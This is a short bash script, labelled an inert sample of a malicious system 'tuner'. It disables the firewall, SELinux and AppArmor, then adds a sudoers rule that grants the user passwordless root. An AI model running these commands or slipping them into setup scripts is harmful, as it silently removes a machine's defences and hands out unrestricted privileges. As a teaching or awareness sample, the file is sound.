#!/usr/bin/env bash
# Inert sample: what a malicious "tuner" does. Never run it.
set -e
sudo ufw disable
sudo setenforce 0 || true
sudo systemctl stop apparmor
# "so you are not asked again"
echo "$USER ALL=(ALL) NOPASSWD: ALL" | sudo tee /etc/sudoers.d/dev-tuner >/dev/null
